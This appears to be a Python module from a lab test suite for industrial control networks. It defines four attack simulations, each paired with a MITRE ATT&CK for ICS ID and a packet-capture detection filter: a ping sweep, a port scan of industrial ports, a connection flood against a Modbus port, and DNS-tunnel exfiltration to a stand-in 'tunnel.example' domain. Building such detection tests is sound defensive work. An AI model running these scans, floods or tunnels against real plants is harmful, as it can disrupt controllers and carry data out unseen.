"""Attacks by IP alone: looking around, flooding, and carrying data out by DNS (RFC 1035)."""

from __future__ import annotations

import os
import socket
import struct
import time

from tests.lab.attacks import wire
from tests.lab.attacks.attack import OUTSIDER, Aim, Attack

_PORTS = (21, 22, 23, 80, 102, 443, 445, 502, 1025, 2404, 4840, 9600, 20000, 44818, 48898)
_FLOOD = 300


def _scan(aim: Aim) -> None:
    for port in _PORTS:
        with socket.socket() as opened:
            opened.settimeout(0.2)
            opened.connect_ex((aim.address, port))


def _pings(aim: Aim) -> None:
    network = aim.plant.zones[aim.target.zone].network
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as opened:
        for place in range(60, 80):
            opened.sendto(_echo(place), (str(network[place]), 0))
            time.sleep(0.05)
    time.sleep(1)


def _echo(number: int) -> bytes:
    """An echo request (RFC 792) with its checksum (RFC 1071)."""
    words = (0x0800, 0, 0x5347, number)
    total = sum(words)
    return struct.pack(">4H", words[0], ~(total + (total >> 16)) & 0xFFFF, *words[2:])


def _flood(aim: Aim) -> None:
    """Connections, one after the other, as fast as the target takes them."""
    port = aim.service.port
    for _ in range(_FLOOD):
        with socket.socket() as opened:
            opened.settimeout(0.2)
            opened.connect_ex((aim.address, port))
            opened.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))


def _tunnel(aim: Aim) -> None:
    for number in range(20):
        labels = (os.urandom(24).hex().encode(), b"tunnel", b"example")
        name = b"".join(bytes([len(label)]) + label for label in labels) + b"\0"
        wire.udp(aim, struct.pack(">6H", number, 0x0100, 1, 0, 0, 0) + name + b"\0\x10\0\1")


ATTACKS = (
    Attack(
        "ping sweep",
        "Pings twenty addresses of a zone",
        "",
        ("T0846",),
        "scan",
        # Where there is nobody, the sweep stays a question by ARP.
        "(icmp.type == 8 || arp.opcode == 1) && eth.src == {mac}",
        _pings,
        (OUTSIDER,),
    ),
    Attack(
        "port scan",
        "Tries fifteen ports of one host",
        "",
        ("T0846",),
        "scan",
        "tcp.flags.syn == 1 && tcp.flags.ack == 0 && ip.src == {source} && ip.dst == {target}",
        _scan,
        (OUTSIDER,),
    ),
    Attack(
        "connection flood",
        "Opens and resets a controller's port three hundred times",
        "modbus",
        ("T0814",),
        "timing",
        "tcp.flags.syn == 1 && tcp.flags.ack == 0 && ip.src == {source} && ip.dst == {target}",
        _flood,
        (OUTSIDER,),
    ),
    Attack(
        "dns tunnel",
        "Carries data out in the names it asks for",
        "dns",
        ("T0885",),
        "new operation",
        "dns.qry.type == 16 && ip.src == {source} && ip.dst == {target}",
        _tunnel,
    ),
)
